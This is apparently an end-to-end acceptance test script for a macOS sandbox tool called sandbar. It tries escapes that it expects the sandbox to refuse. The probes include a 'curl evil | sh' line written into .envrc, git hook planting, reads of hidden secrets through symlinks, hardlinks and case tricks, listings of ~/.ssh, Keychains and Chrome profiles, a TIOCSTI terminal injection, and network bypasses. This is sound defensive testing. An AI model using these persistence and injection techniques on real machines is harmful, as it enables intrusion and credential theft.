#!/usr/bin/env bash
# The macOS acceptance checklist of docs/macos.md, performed on a Mac.
#
# It builds sandbar from this checkout (or uses $SANDBAR), makes a
# workspace (a git repository), a canary outside it and a secret the
# policy hides, all in a fresh directory, and tries through `sandbar run`
# every escape the Linux tests try. Each item prints PASS, FAIL or SKIP
# (with why); the exit status is the number of FAILs (at most 100). The
# output of every run, the reports, and every line the kernel's Sandbox
# extension logged meanwhile (for confine/testdata/seatbelt/log) are kept
# in $OUT, printed at the end.
#
#   e2e/macos-acceptance.sh             # every item
#   e2e/macos-acceptance.sh --offline   # leave out those that need the internet
#
# Written for the bash macOS ships (3.2). It changes nothing outside its
# own directories; an item that fails may leave a probe file, which it
# names.
set -u
cd "$(dirname "$0")/.." || exit 100
if [ "$(uname -s)" != Darwin ]; then
  echo "this checklist runs on macOS; on Linux, go test ./... covers it" >&2
  exit 100
fi
online=1
[ "${1:-}" = --offline ] && online=0

OUT=${OUT:-$(mktemp -d -t sandbar-acceptance)}
OUT=$(cd "$OUT" && pwd -P)
if [ -z "${SANDBAR:-}" ]; then
  echo "== building sandbar"
  go build -o "$OUT/sandbar" ./cmd/sandbar || exit 100
  SANDBAR=$OUT/sandbar
fi

pass=0 fail=0 skipped=0
ok() { pass=$((pass + 1)); printf 'PASS  %s\n' "$1"; }
bad() {
  fail=$((fail + 1))
  printf 'FAIL  %s\n' "$1"
  if [ -n "${2:-}" ]; then printf '      %s\n' "$2"; fi
}
skip() { skipped=$((skipped + 1)); printf 'SKIP  %s (%s)\n' "$1" "$2"; }
section() { printf '\n== %s\n' "$1"; }

# Every line the Sandbox kext logs while the checklist runs.
/usr/bin/log stream --style ndjson --predicate 'senderImagePath ENDSWITH "/Sandbox"' >"$OUT/seatbelt-log.ndjson" 2>&1 &
logpid=$!
trap 'kill $logpid 2>/dev/null' EXIT

# The fixture. Paths are resolved (/var/folders is /private/var/folders),
# as the kernel reports them.
ROOT=$(mktemp -d -t sandbar-fixture)
ROOT=$(cd "$ROOT" && pwd -P)
W=$ROOT/w
OUTSIDE=$ROOT/outside
CANARY=$OUTSIDE/canary.txt
SECRETS=$ROOT/secrets
KEY=$SECRETS/key
mkdir -p "$W/.vscode" "$OUTSIDE" "$ROOT/sibling" "$SECRETS/public"
echo canary >"$CANARY"
echo PRIVATE >"$KEY"
printf '#!/bin/sh\necho ran-hidden\n' >"$SECRETS/run.sh"
chmod +x "$SECRETS/run.sh"
echo public >"$SECRETS/public/readme"
echo '{}' >"$W/.vscode/tasks.json"
have_git=0
if git --version >/dev/null 2>&1; then
  have_git=1
  git -C "$W" init -q
else
  mkdir -p "$W/.git/hooks"
  printf '[core]\n\trepositoryformatversion = 0\n' >"$W/.git/config"
  echo 'ref: refs/heads/main' >"$W/.git/HEAD"
fi
cp "$W/.git/config" "$OUT/config.before"
POLICY=$ROOT/policy.jsonc
cat >"$POLICY" <<EOF
// The acceptance checklist's policy: a secret directory with a public
// part, and the network of the checklist.
{
  "version": 1,
  "filesystem": {
    "denyRead": ["$SECRETS"],
    "allowRead": ["$SECRETS/public"]
  },
  "network": {
    "allowedDomains": ["example.com", "github.com"],
    "deniedDomains": ["example.org"]
  }
}
EOF
case_insensitive=0
[ -e "$(echo "$ROOT" | tr '[:lower:]' '[:upper:]')" ] && case_insensitive=1
python=""
if python3 -c 'import ctypes' >/dev/null 2>&1; then python=$(command -v python3); fi

# sb SCRIPT runs SCRIPT with /bin/sh in the sandbox, in the workspace;
# rc is its exit status, $OUT/last.out its output and sandbar's, and
# $OUT/report-N.json the run's report.
n=0
sb() {
  n=$((n + 1))
  (cd "$W" && "$SANDBAR" run --workspace "$W" --policy "$POLICY" --report "$OUT/report-$n.json" -- /bin/sh -c "$1") </dev/null >"$OUT/last.out" 2>&1
  rc=$?
  cp "$OUT/last.out" "$OUT/run-$n.txt"
}
last() { tail -n 3 "$OUT/last.out" | tr '\n' ' '; }
# refused ID TITLE SCRIPT: SCRIPT must fail, and not because sandbar did.
refused() {
  sb "$3"
  if [ "$rc" -eq 125 ]; then
    bad "$1 $2" "sandbar could not run it (exit 125): $(last)"
  elif [ "$rc" -ne 0 ]; then
    ok "$1 $2"
  else
    bad "$1 $2" "it succeeded: $(last)"
  fi
}
# allowed ID TITLE SCRIPT: SCRIPT must succeed.
allowed() {
  sb "$3"
  if [ "$rc" -eq 0 ]; then ok "$1 $2"; else bad "$1 $2" "exit $rc: $(last)"; fi
}
# holds ID TITLE COMMAND...: COMMAND, run on the host, must succeed.
holds() {
  local id=$1 title=$2
  shift 2
  if "$@"; then ok "$id $title"; else bad "$id $title" "on the host: $*"; fi
}
unchanged() { [ "$(cat "$1")" = "$2" ]; }
absent() { [ ! -e "$1" ] && [ ! -L "$1" ]; }
# gone PID: the process ends within 5 seconds (a killed process is a
# zombie until launchd reaps it).
gone() {
  for _ in 1 2 3 4 5 6 7 8 9 10; do
    kill -0 "$1" 2>/dev/null || return 0
    sleep 0.5
  done
  return 1
}
q() { printf "'%s'" "$(printf '%s' "$1" | sed "s/'/'\\\\''/g")"; }

section "0. sandbar on this Mac"
"$SANDBAR" doctor >"$OUT/doctor.txt" 2>&1
if [ $? -eq 0 ]; then ok "0.1 sandbar doctor finds nothing blocking"; else bad "0.1 sandbar doctor finds nothing blocking" "$(grep FAIL "$OUT/doctor.txt" | head -3)"; fi
reports=1
if grep -q '^warn violations' "$OUT/doctor.txt"; then reports=0; fi
(cd "$W" && "$SANDBAR" explain --workspace "$W" --policy "$POLICY" -- true) >"$OUT/explain.txt" 2>&1
if grep -q '^(deny default' "$OUT/explain.txt" && grep -q "$W" "$OUT/explain.txt"; then
  ok "0.2 sandbar explain prints the profile"
else
  bad "0.2 sandbar explain prints the profile" "$(head -3 "$OUT/explain.txt")"
fi

section "1. Nothing outside the workspace can be changed"
HOST_TMP=$(cd "${TMPDIR:-/tmp}" && pwd -P)
probe=sandbar-acceptance-$$
refused 1.1 "overwrite a file outside" "echo x > $(q "$CANARY")"
refused 1.2 "append to it" "echo x >> $(q "$CANARY")"
refused 1.3 "truncate it" ": > $(q "$CANARY")"
refused 1.4 "remove it" "rm -f $(q "$CANARY")"
refused 1.5 "move it into the workspace" "mv $(q "$CANARY") stolen"
refused 1.6 "chmod it" "chmod 777 $(q "$CANARY")"
refused 1.7 "create a file outside" "echo x > $(q "$OUTSIDE/new")"
refused 1.8 "make a directory outside" "mkdir $(q "$OUTSIDE/d")"
refused 1.9 "create a file in a sibling of the workspace" "echo x > $(q "$ROOT/sibling/new")"
refused 1.10 "leave the workspace with .." "echo x > ../outside/canary.txt"
refused 1.11 "leave the workspace through a symbolic link" "ln -s $(q "$OUTSIDE") out && echo x > out/canary.txt"
refused 1.12 "write /etc" "echo x > /etc/$probe"
refused 1.13 "write /usr/local" "echo x > /usr/local/$probe"
refused 1.14 "write the shared /tmp" "echo x > /tmp/$probe"
refused 1.15 "write the user's temporary directory" "echo x > $(q "$HOST_TMP/$probe")"
refused 1.16 "write the home directory" "echo x > $(q "$HOME/$probe")"
holds 1.17 "the canary is unchanged" unchanged "$CANARY" canary
holds 1.18 "nothing was created outside" absent "$OUTSIDE/new"
holds 1.19 "... nor in /tmp, \$TMPDIR or ~" sh -c "[ ! -e /tmp/$probe ] && [ ! -e $(q "$HOST_TMP/$probe") ] && [ ! -e $(q "$HOME/$probe") ] && [ ! -e $(q "$ROOT/sibling/new") ]"

section "2. The workspace and a private temporary directory can be written"
allowed 2.1 "create, rename and remove in the workspace" "echo made > made.txt && mkdir -p a/b && mv a a2 && rm -r a2"
holds 2.2 "the host sees what the command wrote" unchanged "$W/made.txt" made
allowed 2.3 "write \$TMPDIR" 'echo tmp > "$TMPDIR/x" && cat "$TMPDIR/x" && echo "$TMPDIR" > tmpdir.txt'
tmpdir=$(cat "$W/tmpdir.txt" 2>/dev/null)
holds 2.4 "\$TMPDIR is the run's own, removed after the run" sh -c "[ -n $(q "$tmpdir") ] && [ $(q "$tmpdir") != $(q "$HOST_TMP") ] && [ ! -e $(q "$tmpdir") ]"
if [ $have_git -eq 1 ]; then
  allowed 2.5 "git commits in the workspace" "git -c user.name=t -c user.email=t@example.com commit -q --allow-empty -m acceptance"
else
  skip 2.5 "git commits in the workspace" "git is not installed (xcode-select --install)"
fi

section "3. Hidden paths can be neither read nor changed"
refused 3.1 "read the secret" "cat $(q "$KEY")"
refused 3.2 "list its directory" "ls $(q "$SECRETS")"
refused 3.3 "write into it" "echo x > $(q "$SECRETS/authorized_keys")"
refused 3.4 "move it into the workspace" "mv $(q "$SECRETS") secrets"
refused 3.5 "copy the secret" "cp $(q "$KEY") key"
refused 3.6 "hard-link it into the workspace" "ln $(q "$KEY") key && cat key"
refused 3.7 "clone it (APFS)" "cp -c $(q "$KEY") key"
refused 3.8 "read it through a symbolic link" "ln -s $(q "$KEY") k && cat k"
refused 3.9 "run a program stored there" "$(q "$SECRETS/run.sh")"
if [ $case_insensitive -eq 1 ]; then
  refused 3.10 "read it spelled in capitals (the volume ignores case)" "cat $(q "$(echo "$SECRETS" | tr '[:lower:]' '[:upper:]')/KEY")"
else
  skip 3.10 "read it spelled in capitals" "this volume is case-sensitive"
fi
allowed 3.11 "read what the policy re-allows inside it" "cat $(q "$SECRETS/public/readme")"
if [ -d "$HOME/.ssh" ]; then
  refused 3.12 "list ~/.ssh (hidden by the default policy)" 'ls "$HOME/.ssh"'
else
  skip 3.12 "list ~/.ssh" "there is no ~/.ssh"
fi
# The default policy's macOS secrets: the login keychain and a browser
# profile, where this Mac has them.
if [ -d "$HOME/Library/Keychains" ]; then
  refused 3.12a "list ~/Library/Keychains (hidden by the default policy)" 'ls "$HOME/Library/Keychains"'
else
  skip 3.12a "list ~/Library/Keychains" "there is no ~/Library/Keychains"
fi
chrome="$HOME/Library/Application Support/Google/Chrome"
if [ -d "$chrome" ]; then
  refused 3.12b "list Chrome's profile (hidden by the default policy)" "ls $(q "$chrome")"
else
  skip 3.12b "list Chrome's profile" "Chrome is not installed"
fi
holds 3.13 "the secret is unchanged and still there" unchanged "$KEY" PRIVATE
holds 3.14 "nothing was added to its directory" absent "$SECRETS/authorized_keys"

section "4. Protected paths in the workspace cannot be changed, moved or replaced"
refused 4.1 "write a git hook" "echo 'echo pwned' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit"
refused 4.2 "append to .git/config" "printf '[core]\\n\\thooksPath = /tmp\\n' >> .git/config"
refused 4.3 "replace .git/config by a rename" "echo evil > cfg && mv cfg .git/config"
refused 4.4 "move .git/config away" "mv .git/config cfg"
refused 4.5 "move .git away (and make a new one)" "mv .git git.old && mkdir -p .git/hooks"
refused 4.6 "move .git/hooks away" "mv .git/hooks hooks.old"
refused 4.7 "remove .git/hooks" "rm -rf .git/hooks && [ ! -e .git/hooks ]"
refused 4.8 "hard-link .git/config and write the link" "ln .git/config cfg2 && echo evil >> cfg2"
refused 4.9 "write a hook spelled in capitals" "echo pwned > .GIT/HOOKS/post-checkout"
if [ $have_git -eq 1 ]; then
  refused 4.10 "git config core.hooksPath" "git config core.hooksPath /tmp"
else
  skip 4.10 "git config core.hooksPath" "git is not installed"
fi
if [ -n "$python" ]; then
  refused 4.11 "swap .git with a directory (renamex_np RENAME_SWAP)" "mkdir -p fake/hooks && $python -c 'import ctypes, sys; libc = ctypes.CDLL(None, use_errno=True); sys.exit(0 if libc.renamex_np(b\"fake\", b\".git\", 2) == 0 else 1)'"
else
  skip 4.11 "swap .git with a directory" "no python3 with ctypes"
fi
refused 4.12 "write .vscode/tasks.json" "echo '{\"tasks\": []}' > .vscode/tasks.json"
holds 4.13 "no hook was planted" sh -c "[ ! -e $(q "$W/.git/hooks/pre-commit") ] && [ ! -e $(q "$W/.git/hooks/post-checkout") ]"
holds 4.14 ".git/config is unchanged" cmp -s "$W/.git/config" "$OUT/config.before"
holds 4.15 ".git and its hooks are where they were" test -d "$W/.git/hooks"

section "5. Protected paths that do not exist yet cannot be created"
refused 5.1 "create .envrc" "echo 'curl evil | sh' > .envrc"
refused 5.2 "make .envrc a symbolic link" "ln -s /etc/hosts .envrc"
refused 5.3 "make .envrc a directory" "mkdir .envrc"
refused 5.4 "rename a file to .envrc" "echo evil > e && mv e .envrc"
refused 5.5 "create .ENVRC (the volume ignores case)" "echo evil > .ENVRC"
refused 5.6 "create .mcp.json" "echo '{}' > .mcp.json"
refused 5.7 "create .config/fish in a new .config" "mkdir -p .config && mkdir .config/fish"
# Not refused as it happens: no rule names .config, which the command may
# make. The audit after the run moves .config/fish away (as on Linux).
rm -rf "$W/.config"
sb "mkdir -p t/fish && echo evil > t/fish/config.fish && mv t .config"
holds 5.8 "a .config/fish renamed into place is undone after the run" absent "$W/.config/fish"
holds 5.9 "none of them exists" sh -c "cd $(q "$W") && for p in .envrc .ENVRC .mcp.json; do [ ! -e \$p ] && [ ! -L \$p ] || exit 1; done"

section "6. The network: only sandbar's proxy"
# A server on the host's loopback, which the sandbox must not reach.
perl -MIO::Socket::INET -e '
  my $s = IO::Socket::INET->new(Listen => 5, LocalAddr => "127.0.0.1", LocalPort => 0, ReuseAddr => 1) or die $!;
  open my $f, ">", $ARGV[0] or die $!; print $f $s->sockport; close $f;
  while (my $c = $s->accept) { print $c "reached\n"; close $c }' "$OUT/port" &
server=$!
while [ ! -s "$OUT/port" ]; do sleep 0.1; done
port=$(cat "$OUT/port")
sb "nc -w 3 127.0.0.1 $port"
if grep -q reached "$OUT/last.out"; then bad "6.1 reach a service on the host's loopback" "$(last)"; else ok "6.1 reach a service on the host's loopback"; fi
kill $server 2>/dev/null
refused 6.2 "listen for connections" "perl -MIO::Socket::INET -e 'IO::Socket::INET->new(Listen => 1, LocalAddr => \"127.0.0.1:0\") or exit 1'"
refused 6.3 "connect to a host Unix socket (syslog)" "echo x | nc -U /var/run/syslog"
refused 6.4 "reach a denied domain through the proxy" "curl -sS -m 20 https://example.org/"
if grep -q 403 "$OUT/last.out"; then ok "6.5 ... and the proxy said 403"; else bad "6.5 ... and the proxy said 403" "$(last)"; fi
# The relay on the host's loopback admits only the run's credential.
(cd "$W" && "$SANDBAR" run --workspace "$W" --policy "$POLICY" -- /bin/sh -c 'echo "$HTTP_PROXY" > proxy.txt; sleep 10') </dev/null >/dev/null 2>&1 &
bg=$!
while [ ! -s "$W/proxy.txt" ] && kill -0 $bg 2>/dev/null; do sleep 0.1; done
relay=$(sed -E 's#^http://[^@]*@##' "$W/proxy.txt" 2>/dev/null)
code=$(curl -s -m 10 -o /dev/null -w '%{http_code}' -x "http://$relay" http://example.com/)
if [ "$code" = 407 ]; then ok "6.6 the relay refuses a client without the run's credential (407)"; else bad "6.6 the relay refuses a client without the run's credential" "got HTTP $code from $relay"; fi
kill $bg 2>/dev/null
wait $bg 2>/dev/null
if [ $online -eq 1 ]; then
  allowed 6.7 "reach an allowed domain through the proxy (HTTPS)" "curl -sS -m 30 -o /dev/null https://example.com/"
  refused 6.8 "connect directly, around the proxy" "curl --noproxy '*' -sS -m 10 https://1.1.1.1/"
  refused 6.9 "resolve a name in the sandbox" "host -W 5 example.com"
  if [ $have_git -eq 1 ]; then
    allowed 6.10 "git over HTTPS through the proxy" "git ls-remote https://github.com/git/git HEAD"
  else
    skip 6.10 "git over HTTPS through the proxy" "git is not installed"
  fi
else
  for i in "6.7 reach an allowed domain" "6.8 connect directly" "6.9 resolve a name" "6.10 git over HTTPS"; do skip "$i" "--offline"; done
fi

section "7. Processes"
sb "exit 7"
if [ "$rc" -eq 7 ]; then ok "7.1 the exit status passes through"; else bad "7.1 the exit status passes through" "got $rc"; fi
sb "sandbar-acceptance-no-such-command"
if [ "$rc" -eq 127 ]; then ok "7.2 a missing command exits 127"; else bad "7.2 a missing command exits 127" "got $rc: $(last)"; fi
sb 'sleep 300 & echo $! > bg.pid'
holds 7.3 "a background process dies with the command" gone "$(cat "$W/bg.pid")"
sleep 300 &
victim=$!
refused 7.4 "signal a process outside the sandbox" "kill $victim"
holds 7.5 "... which is still running" kill -0 $victim
kill $victim 2>/dev/null
rm -f "$W/sh.pid"
(cd "$W" && exec "$SANDBAR" run --workspace "$W" --policy "$POLICY" -- /bin/sh -c 'echo $$ > sh.pid; sleep 300') </dev/null >/dev/null 2>&1 &
runner=$!
while [ ! -s "$W/sh.pid" ] && kill -0 $runner 2>/dev/null; do sleep 0.1; done
kill -9 $runner
cmdpid=$(cat "$W/sh.pid" 2>/dev/null || echo 0)
holds 7.6 "killing sandbar (SIGKILL) ends the command" gone "$cmdpid"
rm -f "$W/sh.pid"
(cd "$W" && exec "$SANDBAR" run --workspace "$W" --policy "$POLICY" -- /bin/sh -c 'echo $$ > sh.pid; trap "exit 42" INT; while :; do sleep 0.1; done') </dev/null >/dev/null 2>&1 &
runner=$!
while [ ! -s "$W/sh.pid" ] && kill -0 $runner 2>/dev/null; do sleep 0.1; done
kill -INT $runner
wait $runner
code=$?
if [ $code -eq 42 ]; then ok "7.7 Ctrl-C (SIGINT to sandbar) reaches the command"; else bad "7.7 Ctrl-C (SIGINT to sandbar) reaches the command" "exit $code"; fi
if [ -t 0 ] && [ -n "$python" ]; then
  (cd "$W" && "$SANDBAR" run --workspace "$W" --policy "$POLICY" -- "$python" -c 'import fcntl, termios, sys; fcntl.ioctl(sys.stdin, termios.TIOCSTI, b"#")') >"$OUT/last.out" 2>&1
  if [ $? -ne 0 ]; then ok "7.8 TIOCSTI into the user's terminal is refused"; else bad "7.8 TIOCSTI into the user's terminal is refused" "a '#' may now be on your prompt"; fi
else
  skip 7.8 "TIOCSTI into the user's terminal" "run from a terminal, with python3"
fi

section "8. What the sandbox refused is reported"
if [ $reports -eq 0 ]; then
  skip 8.1 "refusals are reported" "sandbar doctor says they are not, on this Mac"
else
  # Item 4.1 and 3.1's reports.
  r41=$(grep -l 'hooks/pre-commit' "$OUT"/report-*.json 2>/dev/null | head -1)
  if [ -n "$r41" ] && grep -q '"rule": "protected: .git/hooks"' "$r41"; then
    ok "8.1 the hook write is reported, with its rule"
  else
    bad "8.1 the hook write is reported, with its rule" "no report names .git/hooks/pre-commit with its rule (see $OUT/report-*.json)"
  fi
  if grep -l "\"path\": \"$KEY\"" "$OUT"/report-*.json >/dev/null 2>&1; then
    ok "8.2 the read of the secret is reported"
  else
    bad "8.2 the read of the secret is reported" "no report names $KEY"
  fi
  if grep -l '"kind": "network"' "$OUT"/report-*.json >/dev/null 2>&1; then
    ok "8.3 refused connections are reported"
  else
    bad "8.3 refused connections are reported" "no report has a network violation"
  fi
fi

kill $logpid 2>/dev/null
printf '\n%d passed, %d failed, %d skipped. Logs, reports and the Sandbox log lines: %s\n' "$pass" "$fail" "$skipped" "$OUT"
[ $fail -gt 100 ] && fail=100
exit $fail
